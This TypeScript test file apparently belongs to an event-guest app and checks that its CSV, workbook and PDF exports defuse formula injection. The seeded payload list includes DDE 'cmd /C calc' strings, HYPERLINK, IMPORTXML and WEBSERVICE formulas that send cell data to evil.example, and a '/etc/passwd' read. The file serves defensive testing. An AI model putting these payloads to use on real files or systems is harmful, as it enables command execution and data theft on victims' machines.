import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  exportGuests,
  exportReport,
  guestColumns,
  type GuestColumn,
} from '@mehfil/contract/exports.ts'
import { castEvents, guestRow } from '../../seed/events.ts'
import { csvRows, workbookSheets } from '../../test/files.ts'
import { openHouse, type House } from '../../test/house.ts'
import { pdfPages, pdfText } from '../../test/pdf.ts'
import { makeFile } from './jobs.ts'

const EID = castEvents.wedding
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"win")',
  'SUM(1+1)*cmd',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '1+1',
  "''=2",
  '"=3"',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example")',
]
/** A hundred and ten that a spreadsheet might run, and what must not be read as a mark by anything else. */
const payloads = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  "'=1+1",
  "''=1+1",
  '_x0041_',
  '</t></is></c><c><f>1+1</f></c>',
  '#read("/etc/passwd")',
  '#panic()',
  '$x$ *b* _i_ @ref <label>',
  '\u202e=1+1',
  '&#61;1+1',
  '";=1+1;"',
  '\u00a0=1',
]
const isFormula = (cell: string) => /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell)

let house: House
let asha: Awaited<ReturnType<House['as']>>
beforeAll(async () => {
  house = await openHouse({ leniency: 1_000_000 })
  asha = await house.as('asha')
  const now = house.clock.now()
  const { db } = house.world
  await db.deleteFrom('guest').where('event_id', '=', EID).execute()
  const id = (at: number) => `C${at.toString(16).toUpperCase().padStart(14, '0')}`
  await db
    .insertInto('guest')
    .values(
      payloads.map((payload, at) =>
        guestRow(EID, id(at), payload, new Date(now.getTime() - at), {
          email: `${at}@x.example`,
          phone: payload,
          category: payload,
          note: payload,
          seat: payload,
          door_note: payload,
          answer: 'yes',
          people: 1,
          answered_at: now,
          cancel_reason: payload,
        }),
      ),
    )
    .execute()
  await db
    .insertInto('companion')
    .values(
      payloads.map((payload, at) => ({
        event_id: EID,
        guest_id: id(at),
        position: 1,
        name: payload,
      })),
    )
    .execute()
  await db
    .insertInto('question')
    .values({
      event_id: EID,
      id: 'C00000000000F01',
      position: 0,
      body: '=HYPERLINK("x")',
      mandatory: false,
      kind: 'text',
      max: 200,
      choices: '[]',
    })
    .execute()
  await db
    .insertInto('question_answer')
    .values(
      payloads.map((value, at) => ({
        event_id: EID,
        guest_id: id(at),
        question_id: 'C00000000000F01',
        value,
      })),
    )
    .execute()
  await db.updateTable('event').set({ title: '=1+1 #panic() [x]' }).where('id', '=', EID).execute()
})
afterAll(async () => {
  await house.close()
})

async function guestFile(
  format: 'csv' | 'xlsx' | 'pdf',
  columns: GuestColumn[] = [...guestColumns],
): Promise<Buffer> {
  const { data } = await asha.call(exportGuests, { params: { EID }, input: { format, columns } })
  await makeFile.run(house.world, { eventId: EID, exportId: data.id })
  return (
    await asha.inject({ method: 'GET', url: `/api/events/${EID}/guest-exports/${data.id}/file` })
  ).rawPayload
}

async function reportFile(
  format: 'csv' | 'xlsx' | 'pdf',
  part: 'report' | 'table',
): Promise<Buffer> {
  const { data } = await asha.call(exportReport, {
    params: { EID },
    input: {
      format,
      part,
      report: 'guest',
      columns: ['name', 'phone', 'category', 'note', 'companions', 'reason', 'q-C00000000000F01'],
    },
  })
  await makeFile.run(house.world, { eventId: EID, exportId: data.id })
  return (await asha.inject({ method: 'GET', url: `/api/events/${EID}/exports/${data.id}/file` }))
    .rawPayload
}

const textColumns = [
  'Name',
  'Phone',
  'Category',
  'Companions',
  'Table',
  'Door note',
  'Note',
  '=HYPERLINK("x")',
]

describe('Our product lets no spreadsheet run what a guest wrote', () => {
  it(`in a CSV file: ${payloads.length} payloads in every column of text, its titles and its name`, async () => {
    const [titles = [], ...rows] = csvRows((await guestFile('csv')).toString())
    expect(rows).toHaveLength(payloads.length)
    expect([...titles, ...rows.flat()].filter(isFormula)).toEqual([])
    for (const column of textColumns) {
      const at = titles.findIndex((title) => title === column || title === `'${column}`)
      expect([
        column,
        rows.map((cells) =>
          cells[at]!.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '')
            .replace(/;$/, '')
            .trim(),
        ),
      ]).toEqual([column, payloads.map((payload) => payload.replace(/;$/, '').trim())])
    }
  })

  it('nor in CSV files of reports', async () => {
    for (const part of ['report', 'table'] as const) {
      const cells = csvRows((await reportFile('csv', part)).toString()).flat()
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true)
      expect(cells.filter((cell) => isFormula(cell) && !/^-?\d+$/.test(cell))).toEqual([])
    }
  })

  it('and would find one that came through', () => {
    expect(payloads.filter(isFormula).length).toBeGreaterThan(95)
  })

  it('in a workbook: text is text, and there is no formula in any sheet', async () => {
    for (const book of [
      await guestFile('xlsx'),
      await reportFile('xlsx', 'report'),
      await reportFile('xlsx', 'table'),
    ]) {
      const sheets = await workbookSheets(book)
      expect(sheets.some(({ hasFormulas }) => hasFormulas)).toBe(false)
      expect(
        sheets.every(
          ({ name }) => name.length <= 31 && !/[[\]:*?/\\]/.test(name) && !name.startsWith("'"),
        ),
      ).toBe(true)
    }
    const [sheet] = await workbookSheets(await guestFile('xlsx', ['NAME', 'NOTE']))
    const names = sheet!.rows.slice(1).map((cells) => String(cells[0]?.value))
    expect(sheet!.rows.slice(1).every((cells) => cells[0]?.kind === 'text')).toBe(true)
    expect(names.map((name) => name.replace(/^'(?='+[=+\-@\t\r\n＝＋－＠])/, ''))).toEqual(payloads)
  })

  it('and nothing of it on paper but its letters', async () => {
    const list = await pdfText(await guestFile('pdf', ['NAME', 'NOTE']))
    expect(list).toContain('#read("/etc/passwd")')
    expect(list).toContain('#panic()')
    expect(list).not.toContain('root:')
    const report = await reportFile('pdf', 'report')
    expect(await pdfPages(report)).toHaveLength(1)
    expect(await pdfText(report)).toContain('=1+1 #panic() [x]')
  })
})
